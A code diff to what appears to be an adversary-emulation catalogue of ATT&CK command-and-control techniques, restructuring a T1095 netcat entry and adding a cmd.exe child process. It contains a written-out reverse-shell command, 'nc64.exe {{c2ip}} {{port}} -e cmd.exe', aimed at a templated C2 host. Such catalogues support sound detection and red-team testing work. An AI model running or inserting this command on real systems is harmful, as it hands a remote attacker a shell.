@@ -376,7 +376,16 @@ export const commandAndControl = [
     ]),
   ]),
   t("T1095", "Non-application layer protocol", "Raw TCP reverse shells (netcat, PowerShell TcpClient).", [
-    v("ncat", [{ cmd: "{{tools}}\\nc64.exe {{c2ip}} {{port}} -e cmd.exe", net: [["{{c2ip}}", 4444]] }]),
+    // -e hands the connection to a cmd.exe child: the operator's shell.
+    v("ncat", [
+      {
+        cmd: "{{tools}}\\nc64.exe {{c2ip}} {{port}} -e cmd.exe",
+        net: [["{{c2ip}}", 4444]],
+        as: "nc",
+        keep: true,
+      },
+      { cmd: "cmd.exe", parent: "nc", keep: true },
+    ]),
     v(
       "ps-tcpclient",
       [
